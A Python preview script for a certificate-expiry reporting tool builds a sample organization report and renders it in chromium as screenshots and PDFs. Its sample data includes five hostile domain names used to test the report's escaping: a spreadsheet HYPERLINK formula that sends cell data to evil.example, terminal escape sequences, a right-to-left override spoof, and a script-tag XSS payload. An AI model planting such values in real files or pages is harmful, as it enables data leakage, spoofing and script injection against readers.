"""A sample organization report, rendered in Debian's chromium: ``make report-preview``.

Writes to ``build/report-preview/`` (or the folder given): ``report.html`` (three accounts, two
regions, 53 certificates: expired ones, the window's edge, never issued, exempt, and five with
hostile names), screenshots at 1366 and 390 CSS pixels wide (a laptop, a phone), and the page printed on A4 and on
Letter. Open the PNGs and PDFs to see what a reader sees; ``tests/test_report_browser.py`` checks
the same page's structure and script in the same browser.
"""

from __future__ import annotations

import sys
from datetime import UTC, datetime, timedelta
from pathlib import Path

from acm_expiry.certificate import Certificate
from acm_expiry.outcome import Assessment
from acm_expiry.verdict import exempt, judge
from acm_expiry_cli.formats import render
from acm_expiry_cli.report import Report, Row
from acm_expiry_cli.scan import row
from tests.support.browser import PAPERS, find_chromium, pdf, pdf_page_count, screenshot
from tests.support.inventory import synthetic_inventory

NOW = datetime(2026, 11, 27, 12, 0, tzinfo=UTC)
WINDOW = 30
ACCOUNTS = ("111111111111", "222222222222", "333333333333")
REGIONS = ("us-east-1", "eu-west-1")
EXEMPT_TAG = "acm-expiry-exempt"
# Names ACM accepts on import (any subject) that try to act on whoever reads the report.
HOSTILE_DOMAINS = (
    '=HYPERLINK("http://evil.example/?"&A1,"Click for details")',
    "\x1b]8;;http://evil.example/\x1b\\ok.example.com",
    "\u202emoc.elpmaxe.nimda",
    "<script>alert(document.domain)</script>.example.com",
    "line\rfeed\x00nul\x1b[2Jclear.example.com",
)


def sample_rows(now: datetime = NOW) -> list[Row]:
    """What an organization scan finds: each account's certificates near expiry, a few far, five hostile."""
    rows: list[Row] = []
    for number, account in enumerate(ACCOUNTS):
        for place, region in enumerate(REGIONS):
            records = synthetic_inventory(400, now, region=region, account_id=account, seed=10 * number + place)
            near = [r for r in records if "NotAfter" not in r or r["NotAfter"] < (now + timedelta(days=75)).timestamp()]
            far = [r for r in records if r not in near]
            for record in near[: 4 + 2 * number] + far[:2]:
                rows.append(_judged(record, now, region, account))
    hostile = synthetic_inventory(len(HOSTILE_DOMAINS), now, account_id=ACCOUNTS[1], seed=99)
    for record, domain in zip(hostile, HOSTILE_DOMAINS, strict=True):
        record["DomainName"] = domain
        record["NotAfter"] = (now + timedelta(days=12)).timestamp()
        rows.append(_judged(record, now, "us-east-1", ACCOUNTS[1]))
    rows[3] = _judged(synthetic_inventory(1, now, account_id=ACCOUNTS[0])[0], now, "us-east-1", ACCOUNTS[0], "lab")
    return sorted(rows, key=lambda r: (r.days_left is None, r.days_left or 0, r.account, r.region, r.domain))


def _judged(record: dict[str, object], now: datetime, region: str, account: str, exempt_for: str = "") -> Row:
    certificate = Certificate.from_acm(record)
    verdict = exempt(EXEMPT_TAG, exempt_for) if exempt_for else judge(certificate, now, WINDOW)
    return row(Assessment(certificate, verdict), region, account)


def sample_report(now: datetime = NOW) -> Report:
    return Report(WINDOW, now, tuple(sample_rows(now)), "Config aggregator org-aggregator", regions=REGIONS)


def main(folder: str = "build/report-preview") -> int:
    out = Path(folder).resolve()  # chromium opens the page by its file: URI
    out.mkdir(parents=True, exist_ok=True)
    page = out / "report.html"
    page.write_text(render(sample_report(), "html"), encoding="utf-8")
    print(f"{page}: {len(sample_report().rows)} certificates")
    chromium = find_chromium()
    if chromium is None:
        print("no chromium on PATH: apt-get install -y chromium, then run this again", file=sys.stderr)
        return 1
    for width, height in ((1366, 2600), (390, 3000)):
        print(screenshot(chromium, page, out / f"report-{width}px.png", width, height))
    for paper in PAPERS:
        printed = pdf(chromium, page, out / f"report-{paper}.pdf", paper)
        print(f"{printed}: {pdf_page_count(printed.read_bytes())} page(s)")
    return 0


if __name__ == "__main__":
    sys.exit(main(*sys.argv[1:2]))
